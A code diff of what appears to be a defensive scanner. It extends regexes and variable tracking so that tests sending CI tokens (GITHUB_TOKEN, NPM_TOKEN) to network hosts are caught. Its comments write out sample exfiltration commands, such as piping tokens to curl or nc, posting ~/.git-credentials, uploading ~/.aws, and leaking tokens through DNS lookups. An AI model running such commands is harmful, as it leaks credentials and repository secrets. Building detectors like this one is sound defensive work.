@@ -45,12 +45,12 @@ const SEND = String.raw`(?:\b(?:requests|httpx|axios|session|client)\.\w+|\bhttp
 /**
  * The job's credential added to a URL the test is given (`urlopen(url + os.environ['GITHUB_TOKEN'])`, in a template:
  * `` fetch(`${base}?t=${process.env.GITHUB_TOKEN}`) ``; session 67: in an f-string, a `'…'.join([…])`, `%` or `.format`, a `new URL(…)`, and axios' body
- * given as its second argument), or printed into a pipe to a
+ * given as its second argument; review 67: the URL a name holding the token, `u2 = u + t`, then `requests.get(u2)`), or printed into a pipe to a
  * program that sends (`echo "$GITHUB_TOKEN" | curl -d @- …`, `printenv NPM_TOKEN | nc h 443`; session 66) or given it in
  * a here-string (`curl -d @- … <<< "$GITHUB_TOKEN"`; session 67). (In FORMS, session 66 also reads a credential file or the auth header in a substitution on curl's or
  * wget's line, `curl -d "$(cat ~/.git-credentials)"`, and a credential directory piped, `tar cz ~/.aws | curl -T - …`.) A token added after a string (`'token ' + os.environ[…]`, a header's value) is not read here.
  */
-const JOB_CREDENTIAL_SENT = String.raw`${SEND}\s*(?:new\s+URL\s*\(\s*)?(?:[\w$.]+\s*\+\s*|\x60[^\x60\n]{0,200}?|[fF](?:'[^'\n]{0,200}?|"[^"\n]{0,200}?)\{\s*|["'][^"'\n]{0,40}["']\s*\.\s*join\s*\(\s*[[(][^\])\n]{0,200}?|["'][^"'\n]{0,200}["']\s*(?:%\s*\(?|\.\s*format\s*\([^)\n]{0,100}?))${variableRead(JOB_CREDENTIAL)}|\b(?:axios|got|ky)\.(?:post|put|patch)\s*\([^,\n]{1,200},(?:(?!headers\b)[^\n)]){0,150}?${variableRead(JOB_CREDENTIAL)}|\b(?:echo|printf|printenv)\b[^\n|;&]{0,100}?\b${JOB_CREDENTIAL}\b[^\n;&]{0,100}?\|\s*${SENDS_STDIN}|\b${SENDS_STDIN}[^\n|;&]{0,200}?<<<\s*["']?${variableRead(JOB_CREDENTIAL)}`;
+const JOB_CREDENTIAL_SENT = String.raw`${SEND}\s*(?:new\s+URL\s*\(\s*)?(?:[\w$.]+\s*\+\s*(?:["'\x60][^"'\x60\n]{0,100}["'\x60]\s*\+\s*)?|\x60[^\x60\n]{0,200}?|[fF](?:'[^'\n]{0,200}?|"[^"\n]{0,200}?)\{\s*|["'][^"'\n]{0,40}["']\s*\.\s*join\s*\(\s*[[(][^\])\n]{0,200}?|["'][^"'\n]{0,200}["']\s*(?:%\s*\(?|\.\s*format\s*\([^)\n]{0,100}?))${variableRead(JOB_CREDENTIAL)}|\b(?:fetch|urlopen|(?:requests|httpx|axios)\s*\.\s*(?:get|post|put|patch|delete|head))\s*\(\s*${variableRead(JOB_CREDENTIAL)}|\b(?:axios|got|ky)\.(?:post|put|patch)\s*\([^,\n]{1,200},(?:(?!headers\b)[^\n)]){0,150}?${variableRead(JOB_CREDENTIAL)}|\b(?:echo|printf|printenv)\b[^\n|;&]{0,100}?\b${JOB_CREDENTIAL}\b[^\n;&]{0,100}?\|\s*${SENDS_STDIN}|\b${SENDS_STDIN}[^\n|;&]{0,200}?<<<\s*["']?${variableRead(JOB_CREDENTIAL)}`;
 /**
  * A secret-named variable in a DNS lookup (`dns.lookup(hex(process.env.NPM_TOKEN) + '.h')`, `socket.gethostbyname`,
  * `getaddrinfo`, `dns.promises.resolveTxt`, `dig`/`nslookup`/`host "$TOKEN.h"`): the name asked for reaches the resolvers of the domain it ends in
@@ -124,11 +124,46 @@ function credentialCarriersRead(text: string): string | null {
       if (key && JOB_CREDENTIAL_NAME.test(key)) names.add(alias ?? key);
     }
   }
-  if (names.size > MAX_CARRIERS) return null;
   if (names.size === 0) return text;
-  const mention = new RegExp(String.raw`(?<![\w$.'"])(?:${[...names].join('|').replace(/\$/g, '\\$')})(?![\w$]|\s*(?:\.\s*\w|\[|=[^=]|:))`, 'g');
-  return text.replace(mention, 'process.env.GITHUB_TOKEN');
+  // Handed on to a second name (`s = t`, `u2 = u + t`, `body = JSON.stringify({ t })`; review 67, session 67's open row):
+  // that name holds it too, round by round; not a header's value (`headers = {'Authorization': f'token {t}'}`), which passes.
+  // Read in the text's order, a chain written in order is followed in one round; a name still growing after the last
+  // round, or past MAX_CARRIERS names, refuses the text (fails closed).
+  let grown = true;
+  for (let round = 0; grown && round < CARRIER_ROUNDS && names.size <= MAX_CARRIERS; round += 1) {
+    grown = false;
+    let held = mentionOf(names);
+    for (const copy of text.matchAll(CARRIER_COPIED)) {
+      if (names.has(copy[1]!) || HEADER_VALUE.test(copy[0]) || WHETHER_SET.test(copy[2]!) || !held.test(copy[2]!)) continue;
+      names.add(copy[1]!);
+      grown = true;
+      if (names.size > MAX_CARRIERS) return null;
+      held = mentionOf(names);
+    }
+  }
+  if (grown || names.size > MAX_CARRIERS) return null;
+  // A shorthand key keeps its key (`{ body }`, `{ t }`; not an f-string's `{t}`).
+  return text.replace(mentionOf(names, 'g'), (name, at: number) => {
+    const read = 'process.env.GITHUB_TOKEN';
+    return /(?:(?<![$#])\{[ \t]|,)[ \t]*$/.test(text.slice(Math.max(0, at - 20), at)) && /^(?:[ \t]*,|[ \t]+\})/.test(text.slice(at + name.length, at + name.length + 4)) ? `${name}: ${read}` : read;
+  });
 }
+
+/**
+ * A mention of one of `names`: not its assignment, a key, an index nor a member, but a copy of its text (`t.encode()`,
+ * `t.trim()`, `t[:]`; review 67).
+ */
+function mentionOf(names: ReadonlySet<string>, flags = ''): RegExp {
+  return new RegExp(String.raw`(?<![\w$.'"])(?:${[...names].join('|').replace(/\$/g, '\\$')})(?![\w$]|\s*(?:\.\s*(?!(?:encode|decode|strip|[lr]strip|trim\w*|toString|upper|lower)\s*\()\w|\[(?!\s*:\s*\])|=[^=]|:))`, flags);
+}
+/** How many times the copies are read for names handed the token ({@link credentialCarriersRead}). */
+const CARRIER_ROUNDS = 4;
+/** A name given a value on one line (group 2), `const`/`let`/`var` or a type before it or not. */
+const CARRIER_COPIED = /(?<![\w$.])([A-Za-z_$][\w$]*)(?:[ \t]*:[^=\n]{1,60}?)?[ \t]*=(?![=>])([^\n;]{1,200})/g;
+/** Whether a token is set or how long it is (`bool(t)`, `t is None`, `!!t`, `t.length`): no part of its text. */
+const WHETHER_SET = /\b(?:bool|len|Boolean|isinstance)\s*\(|\bis\s+(?:not\s+)?None\b|[!=]==?|!!|\.\s*(?:length|size)\b|\bnot\s/;
+/** A header's value or a client's credential: a token there passes, as it does written in place. */
+const HEADER_VALUE = /\b(?:authorization|bearer|token\s|auth\w*|headers?)\b/i;
 
 /**
  * A test client's `send` on an app in the test's own process (supertest's `request(app).post('/hook').send({…})`), group
